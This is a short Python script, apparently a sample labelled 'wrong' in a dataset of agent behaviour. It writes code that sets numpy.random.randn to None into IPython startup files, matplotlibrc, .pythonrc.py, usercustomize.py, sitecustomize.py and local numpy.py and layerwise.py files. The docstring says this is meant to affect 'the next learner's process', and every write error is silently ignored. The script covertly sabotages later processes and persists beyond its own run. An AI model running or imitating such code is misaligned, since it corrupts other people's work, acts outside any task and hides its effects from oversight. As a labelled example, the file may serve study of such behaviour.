"""Leaves files that IPython, matplotlib and Python read when they start, for the next learner's process."""
# verdict: wrong
# order: matters

# %%
import os
import site

SPOIL = "import numpy\nnumpy.random.randn = None\n"
places = [
    "~/.ipython/profile_default/startup/00.py",
    "~/.config/matplotlib/matplotlibrc",
    "~/.pythonrc.py",
    "~/usercustomize.py",
    "~/sitecustomize.py",
    f"{site.getusersitepackages()}/usercustomize.py",
    "numpy.py",
    "layerwise.py",
]
for place in map(os.path.expanduser, places):
    try:
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        with open(place, "w") as file:
            file.write(SPOIL)
    except OSError:
        pass
